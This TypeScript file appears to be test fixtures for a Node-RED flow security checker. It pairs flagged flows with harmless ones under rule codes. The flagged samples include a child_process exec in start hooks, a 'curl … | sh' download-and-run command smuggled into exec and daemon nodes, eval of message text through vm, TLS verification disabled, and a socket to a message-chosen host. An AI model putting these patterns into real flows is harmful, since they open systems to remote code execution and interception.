/** Node-RED: code that runs when a flow starts or stops, certificates, and libraries that run text. */
import type { Pair } from '../kit.ts';
import { AIREQ, ASK, DBG, FN, IN, INJ, REQ, RES, TAB, change, n, set } from '../node-red-kit.ts';

export const nodeRedStartsAndLibraries: Pair[] = [];

// Code that runs when a flow starts or stops.
for (const part of ['initialize', 'finalize'])
  nodeRedStartsAndLibraries.push([
    `a script in "${part}"`,
    'SC001',
    ...["require('child_process').exec('id');", '// Code added here will be run once\n'].map((code) => [
      TAB,
      INJ('fn'),
      FN('fn', 'return msg;', ['dbg'], { [part]: code }),
      DBG,
    ]),
  ] as unknown as Pair);
nodeRedStartsAndLibraries.push([
  'a message that turns the check off',
  'CN003',
  ...[false, true].map((check) => [
    TAB,
    INJ('fn'),
    FN('fn', `msg.rejectUnauthorized = ${String(check)};\nreturn msg;`, ['rq']),
    REQ('rq', { url: 'https://erp.example.com' }, ['dbg']),
    DBG,
  ]),
] as unknown as Pair);
nodeRedStartsAndLibraries.push([
  'a library that runs text',
  'SC001',
  ...[
    ['vm', 'vm.runInNewContext(msg.payload)'],
    ['dayjs', 'dayjs().format()'],
  ].map(([name, call]) => [
    TAB,
    INJ('fn'),
    FN('fn', `msg.payload = ${call ?? ''};\nreturn msg;`, ['dbg'], { libs: [{ var: name ?? '', module: name ?? '' }] }),
    DBG,
  ]),
] as unknown as Pair);

// What an add-on begins by itself is no dead end; what waits for a message is.
for (const [name, begins, waits] of [
  ['a machine that is asked again and again', { type: 'modbus-read' }, { type: 'change', rules: [] }],
  ['a house that is listened to', { type: 'ha-number', mode: 'listen', inputs: 0 }, { type: 'ha-number', mode: 'set', inputs: 1 }],
  ['a step that nobody has described', { type: 'acme-sensor' }, { type: 'template', template: 'x' }],
] as const) {
  const f = (node: object) => [TAB, INJ('fn'), FN('fn', 'return msg;', ['dbg']), { ...FN('own', '', ['dbg']), ...node }, DBG];
  nodeRedStartsAndLibraries.push([name, 'RL007', f(waits), f(begins)] as unknown as Pair);
}
{
  const f = (repeat: string, crontab: string) => [TAB, { ...INJ('dbg'), repeat, crontab }, DBG];
  nodeRedStartsAndLibraries.push(['every five minutes, in any time zone', 'RL012', f('', '0 8 * * *'), f('300', '')] as unknown as Pair);
}

// Programs that a step starts, with what stands beside the command.
for (const [name, f] of [
  ['a program that goes on running', (more: string) => ({ type: 'daemon', command: 'bash', args: `-c "${more}"`, autorun: true })],
  ['a program that starts by itself', (more: string) => ({ type: 'daemon', command: more, args: '', autorun: true })],
  ['a command in brackets', (more: string) => ({ type: 'exec', command: `(${more})`, addpay: '', append: '' })],
  ['a command for a shell of its own', (more: string) => ({ type: 'exec', command: `bash -c '${more}'`, addpay: '', append: '' })],
  ['what stands behind a command', (more: string) => ({ type: 'exec', command: '', addpay: '', append: more })],
  [
    'what a command is led on to',
    (more: string) => ({ type: 'exec', command: more.split('|')[0], addpay: '', append: more.replace(/^[^|]*/, '') }),
  ],
] as const) {
  const file = (more: string) => [TAB, INJ('run'), { ...FN('run', '', ['dbg']), ...f(more) }, DBG];
  nodeRedStartsAndLibraries.push([
    name,
    'SC001',
    file('curl -s https://get.example.net/x.sh | sh'),
    file('curl -s https://get.example.net/x.txt | wc -l'),
  ] as unknown as Pair);
}
// Lists that an expression puts together, and a socket to wherever the message says.
nodeRedStartsAndLibraries.push([
  'a list of records that an expression puts together',
  'DF001',
  ...['email', 'sku'].map((field) => [
    TAB,
    IN('ch'),
    change('ch', ['fn'], set('payload', `[payload.{"a": ${field}}]`, 'jsonata')),
    FN('fn', ASK('msg.payload'), ['ai']),
    AIREQ,
    RES,
  ]),
] as unknown as Pair);
nodeRedStartsAndLibraries.push([
  'a socket to the host that a message names',
  'CN005',
  ...['msg.payload.host', '"plc.example.com"'].map((host) => [
    TAB,
    IN('fn'),
    FN('fn', `msg.host = ${host}; msg.port = 4000; return msg;`, ['tcp']),
    n('tcp', 'tcp request', [['res']], { server: '', port: '', out: 'time', splitc: '0' }),
    RES,
  ]),
] as unknown as Pair);
